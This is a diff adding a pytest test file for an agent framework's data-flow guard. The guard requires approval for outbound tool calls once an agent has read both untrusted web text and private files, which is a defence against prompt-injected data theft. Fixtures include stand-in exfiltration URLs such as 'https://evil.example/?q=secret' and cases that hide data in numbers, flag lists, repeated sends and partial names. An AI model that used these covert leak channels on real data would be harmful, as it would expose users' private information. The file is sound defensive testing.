@@ -1,0 +1,256 @@
+"""When must a call be asked for because of what the conversation has read?"""
+
+import time
+
+import pytest
+
+from agentkit.content import Image
+from agentkit.decisions import Decision, Label, Verdict
+from agentkit.messages import AssistantMessage, ToolCall, ToolMessage, UserMessage
+from agentkit.safety.data_flow import judge_flow, said_in
+
+LEAVES = Decision(Verdict.ALLOW, "url.public", "It is a public address.", egress=True)
+
+
+def conversation(*labels, said="Read it and tell me."):
+    """A prompt and one tool call with its result for each label."""
+    messages = [UserMessage(said)]
+    for index, label in enumerate(labels):
+        name = {Label.UNTRUSTED: "fetch_url", Label.PRIVATE: "read_file"}[label]
+        messages.append(AssistantMessage(tool_calls=(ToolCall(f"c{index}", name, f'{{"n": {index}}}'),)))
+        messages.append(ToolMessage(f"c{index}", name, "…", frozenset({label})))
+    return messages
+
+
+BOTH = (Label.UNTRUSTED, Label.PRIVATE)
+
+
+def test_both_labels_make_egress_an_ask():
+    """Once untrusted text and private data were read, a call that could carry data out names the two causes."""
+    decision = judge_flow(conversation(*BOTH), "send", {"url": "https://evil.example/?q=secret"}, LEAVES)
+    assert (decision.verdict, decision.rule) == (Verdict.ASK, "flow")
+    assert 'fetch_url({"n": 0})' in decision.reason
+    assert 'read_file({"n": 1})' in decision.reason
+
+
+def test_order_of_reading_does_not_matter():
+    """Private data first and untrusted text after it is the same danger."""
+    assert judge_flow(conversation(*reversed(BOTH)), "send", {"url": "https://evil.example/"}, LEAVES).rule == "flow"
+
+
+@pytest.mark.parametrize("labels", [(), (Label.UNTRUSTED,), (Label.PRIVATE,), (Label.PRIVATE, Label.PRIVATE)])
+def test_one_label_alone_changes_nothing(labels):
+    """Without both there is nobody to steal, or nothing to be stolen."""
+    assert judge_flow(conversation(*labels), "send", {"url": "https://a.example/"}, LEAVES) is LEAVES
+
+
+def test_calls_that_stay_inside_are_not_asked_for():
+    """A call that cannot carry data out runs as before."""
+    inside = Decision(Verdict.ALLOW, "workspace.read", "It is in the workspace.")
+    assert judge_flow(conversation(*BOTH), "send", {"path": "a.txt"}, inside) is inside
+
+
+def test_denial_stays_a_denial():
+    """What is denied is not softened to a question."""
+    denied = Decision(Verdict.DENY, "url.private-address", "It is private.", egress=True)
+    assert judge_flow(conversation(*BOTH), "send", {"url": "http://10.0.0.1/"}, denied) is denied
+
+
+def test_question_keeps_its_own_reason_too():
+    """A call that had to be asked for anyway is asked for with both reasons."""
+    asked = Decision(Verdict.ASK, "shell.network", "It needs the network.", egress=True)
+    decision = judge_flow(conversation(*BOTH), "send", {"command": "curl https://a.example"}, asked)
+    assert (decision.rule, "It needs the network." in decision.reason) == ("flow", True)
+
+
+@pytest.mark.parametrize(
+    ("arguments", "asked"),
+    [
+        ({"url": "https://a.example/page"}, False),
+        ({"url": "https://a.example/page?secret=1"}, True),
+        ({"url": "https://a.example/page", "extra": {"k": ["v"]}}, True),
+        ({"to": "bob", "count": 3}, False),
+        ({"to": "bob", "count": 31337}, True),
+        ({"headers": {"x-secret": "bob"}}, True),
+        ({"to": "bob", "codes": [115, 101, 99, 114]}, True),
+        ({"to": "bob", "flags": [True, False, True, True]}, True),
+        ({"to": "bo"}, True),
+        ({"to": "b", "parts": ["o", "b"]}, True),
+        ({"to": "bob", "ratio": 0.5}, True),
+        ({"to": ["bob"] * 20}, True),
+        ({"count": 3}, True),
+        ({"url": "https://a.example/pag"}, True),
+        ({}, True),
+    ],
+)
+def test_words_of_the_person_may_leave(arguments, asked):
+    """A call whose arguments the person wrote carries nothing that was read; one invented piece makes it a question."""
+    messages = conversation(*BOTH, said="Send https://a.example/page to bob 3 times")
+    assert (judge_flow(messages, "send", arguments, LEAVES).rule == "flow") is asked
+
+
+def test_host_alone_is_not_the_address():
+    """That the person named a host does not make an address there, with words of the model in it, the person's own."""
+    decision = Decision(Verdict.ALLOW, "url.public", "Public.", evidence="a.example", egress=True)
+    messages = [UserMessage(("See https://a.example/", Image("https://a.example/x.png"))), *conversation(*BOTH)]
+    assert judge_flow(messages, "send", {"url": "https://a.example/", "start": 0}, decision) is decision
+    assert judge_flow(messages, "send", {"url": "https://a.example/?q=secret", "start": 0}, decision).rule == "flow"
+
+
+def test_result_without_its_call_is_named_all_the_same():
+    """A history that lost the call still knows which tool it was."""
+    messages = [ToolMessage("x", "mail", "…", frozenset(BOTH))]
+    assert "mail()" in judge_flow(messages, "send", {"url": "https://evil.example/"}, LEAVES).reason
+
+
+def test_words_of_the_person_leave_a_few_times_only():
+    """Which of a person's words are sent, again and again, would tell something too."""
+    messages = conversation(*BOTH, said="Send it to bob")
+    for index in range(6):
+        assert (judge_flow(messages, "send", {"to": "bob"}, LEAVES).rule == "flow") is (index > 4)
+        messages.append(AssistantMessage(tool_calls=(ToolCall(f"s{index}", "send", "{}"),)))
+        messages.append(ToolMessage(f"s{index}", "send", "ok"))
+
+
+def test_what_the_agents_above_have_read_counts():
+    """What the agent above has read counts as read, and nothing that it prompts is a person's own words."""
+    said = conversation(Label.PRIVATE, said="Send it to https://example.org")
+    arguments = {"url": "https://example.org"}
+    assert judge_flow(said, "send", arguments, LEAVES) is LEAVES
+    asked = judge_flow(said, "send", arguments, LEAVES, frozenset({Label.UNTRUSTED}))
+    assert asked.verdict is Verdict.ASK
+    assert "untrusted text, by what the agent above had read, and private data, by read_file" in asked.reason
+    assert judge_flow(conversation(), "send", arguments, LEAVES, frozenset({Label.UNTRUSTED})) is LEAVES
+
+
+@pytest.mark.parametrize(
+    ("value", "words", "is_said"),
+    [
+        ("bob@corp.example", "Mail bob@corp.example, please.", True),
+        ("bob@corp.example", "Mail <bob@corp.example>.", True),
+        ("bob@corp.example", "Mail jimbob@corp.example.", False),
+        ("bob@corp", "Mail bob@corp.example.", False),
+        ("https://a.example", "See https://a.example.org/.", False),
+        ("https://a.example", "See https://a.example:8443/.", False),
+        ("https://a.example", "See https://a.example.", True),
+        ("a.example", "See https://not-a.example", False),
+        ("Bob", "Tell bob.", False),
+        ("GB29NWBK60161331926819", "Pay to GB29NWBK60161331926819.", True),
+        ("GB29NWBK6016", "Pay to GB29NWBK60161331926819.", False),
+        (["ann", "bob"], "To ann and bob", True),
+        (["ann", "eve"], "To ann and bob", False),
+        ({"to": "ann"}, "To ann", False),
+        ({"to": "ann"}, "Set to: ann", True),
+        (20, "Pay 20 euros.", True),
+        (20, "Pay 20.", True),
+        (20, "Pay 200 euros.", False),
+        (20, "Pay 20.50 euros.", False),
+        (20, "Come at 20:15.", False),
+        (15, "Come at 20:15.", False),
+        (2, "Pay 2,000.", False),
+        (0, "Pay 2,000.", False),
+        (2000, "Pay 2,000.", True),
+        (1200.0, "Pay 1200.", True),
+        (1200.0, "Pay 1,200.00.", True),
+        (98.7, "Pay 98.70.", True),
+        (98.7, "Pay 98.7", True),
+        (98.755, "Pay 98.75", False),
+        (float("inf"), "Pay inf", False),
+        (float("nan"), "Pay nan", False),
+        (True, "True", False),
+        (object(), "object", False),
+        (None, "", True),
+        ("", "", True),
+        ([], "", True),
+        (["bob"] * 101, "bob", False),
+    ],
+)
+def test_what_the_person_has_said(value, words, is_said):
+    """Texts and numbers count as said where they stand whole in the person's words; nothing needs no saying."""
+    assert said_in([UserMessage(words)], {"x": value}) == ({"x"} if is_said else set())
+
+
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [
+        ("brien@x.example", "Write to o'brien@x.example."),
+        ("Brien", "Pay O\u2019Brien."),
+        ("O", "Pay O'Brien."),
+        ("Jose", "Pay Jose\u0301."),
+        ("रम", "रमेश को भेजो"),
+        ("श", "रमेश को भेजो"),
+        ("\u0301", "Jose\u0301"),
+        ("bob", "a\u200bbob"),
+        ("Ann", "Ann\u00adMarie"),
+        ("Ann", "Ann\u2011Marie"),
+        ("Jones", "Smith\u2013Jones"),
+        ("eve@x.example", "Write to a!eve@x.example."),
+        ("eve@x.example", "Write to a{eve@x.example."),
+        ("x.example", "Write to eve\uff20x.example."),
+        ("https://a.example", "See https://a.example\u3002org/"),
+        ("https://a.example/b", "See https://a.example/b~c"),
+        ("https://a.example/b", "See https://a.example/b#c"),
+        ("Users", "C:\\Users\\x"),
+        ("C:\\Users", "C:\\Users\\x"),
+        ("*", "**Only** mine."),
+        ("..", "Well ... go on."),
+        (".", "Well ... go on."),
+        ("/", "and/or"),
+        (10, "Pay 10 000 EUR."),
+        (10, "Pay 10\u202f000 EUR."),
+        (0, "Pay 10 000 EUR."),
+        (10, "Pay 10'000 EUR."),
+        (5, "It is \u22125."),
+        (12, "Pay 12\u066b5."),
+        (12, "Pay 12\u00b75."),
+        (1, "1\u20442"),
+        (10, "pages 10\u201320"),
+    ],
+)
+def test_part_of_a_word_is_not_said(value, words):
+    """A piece of what the person wrote, however it was joined to the rest, is another name, number or address."""
+    assert not said_in([UserMessage(words)], {"x": value})
+
+
+@pytest.mark.parametrize(
+    ("value", "words"),
+    [
+        ("Ann", "Pay Ann's share."),
+        ("Ann", "Pay 'Ann','Bob'."),
+        ("Ann", "Pay **Ann**, `Bob` and #Eve—now."),
+        ("रमेश", "रमेश को भेजो"),
+        ("José", "Pay José."),
+        ("*", "Delete * there."),
+        ("*.txt", 'Delete "*.txt".'),
+        (12, "Pay $12."),
+        (12, "Pay 12€ of 100."),
+        (13, "See #13."),
+        (3, "3 of 2026"),
+        ("👍", "React with 👍 to it."),
+    ],
+)
+def test_a_whole_word_is_said(value, words):
+    """Quotes, marks and units beside a word make no other one of it."""
+    assert said_in([UserMessage(words)], {"x": value})
+
+
+def test_only_the_person_says():
+    """Words of the model and of tools are nobody's."""
+    messages = [UserMessage("Go on."), AssistantMessage("eve"), ToolMessage("c", "read", "eve")]
+    assert said_in(messages, {"to": "eve", "note": None}) == {"note"}
+
+
+def test_words_of_the_person_leave_no_more_often_at_once():
+    """Many calls of one response tell as much as many responses: together they are no few."""
+    for count in (5, 6):
+        calls = tuple(ToolCall(f"s{index}", "send", '{"to": "bob"}') for index in range(count))
+        messages = [*conversation(*BOTH, said="Send it to bob"), AssistantMessage(tool_calls=calls)]
+        assert (judge_flow(messages, "send", {"to": "bob"}, LEAVES).rule == "flow") is (count > 5)
+
+
+def test_long_text_of_nothing_but_parts_of_words_is_no_words():
+    """A pasted text in which a letter always bears an accent is not read to its end for each of many arguments."""
+    pasted = "e\u0301 " * 300_000
+    started = time.process_time()
+    found = said_in([UserMessage(pasted)], {f"a{number}": "e" for number in range(100)})
+    assert (found, time.process_time() - started < 5) == (frozenset(), True)
